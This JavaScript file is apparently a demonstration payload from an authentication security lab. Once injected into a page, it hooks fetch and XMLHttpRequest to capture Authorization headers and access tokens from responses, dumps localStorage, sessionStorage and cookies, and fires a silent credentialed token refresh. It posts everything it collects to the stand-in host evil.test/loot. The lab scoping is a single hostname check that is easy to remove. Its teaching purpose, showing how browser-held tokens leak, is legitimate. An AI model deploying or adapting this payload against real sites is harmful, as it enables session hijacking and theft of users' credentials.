// Injected into the lab's page: takes what is stored there, wraps the page's ways to send, and requests a token itself. It
// works against the lab's own sites only.

(() => {
  if (location.hostname !== 'app.test' && !location.hostname.endsWith('.app.test')) return

  const LOOT = `${location.protocol}//evil.test/loot`
  const API = `${location.protocol}//api.app.test`
  const plainFetch = window.fetch.bind(window)

  function tell(worked, says) {
    document.dispatchEvent(new CustomEvent('authlab-told', { detail: { thief: 'active', worked, says } }))
  }

  function bring(where, value) {
    plainFetch(LOOT, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ thief: 'active', found: { [where]: value } }) }).catch(() => {})
    tell(true, `Sent to evil.test: ${where}.`)
  }

  function search(where, text) {
    try {
      const token = JSON.parse(text).access_token
      if (typeof token === 'string') bring(where, token)
    } catch {
      // An answer that isn't JSON contains no token.
    }
  }

  const setHeader = XMLHttpRequest.prototype.setRequestHeader
  XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
    if (name.toLowerCase() === 'authorization') bring('Authorization of a request of the page', value)
    return setHeader.call(this, name, value)
  }
  const send = XMLHttpRequest.prototype.send
  XMLHttpRequest.prototype.send = function (body) {
    this.addEventListener('load', () => {
      if (['', 'text'].includes(this.responseType)) search('an answer to the page', this.responseText)
    })
    return send.call(this, body)
  }
  window.fetch = async (...asked) => {
    const request = new Request(...asked)
    const header = request.headers.get('Authorization')
    if (header !== null) bring('Authorization of a request of the page', header)
    const answer = await plainFetch(...asked)
    answer.clone().text().then((text) => search('an answer to the page', text), () => {})
    return answer
  }

  tell(false, 'It waits for the page’s next request.')
  for (const [name, value] of Object.entries({ ...localStorage })) bring(`localStorage.${name}`, value)
  for (const [name, value] of Object.entries({ ...sessionStorage })) bring(`sessionStorage.${name}`, value)
  if (document.cookie !== '') bring('document.cookie', document.cookie)
  plainFetch(`${API}/refresh?storage=memory`, { method: 'POST', credentials: 'include' })
    .then((answer) => answer.text())
    .then((text) => search('the answer to its own silent refresh', text), () => {})
})()
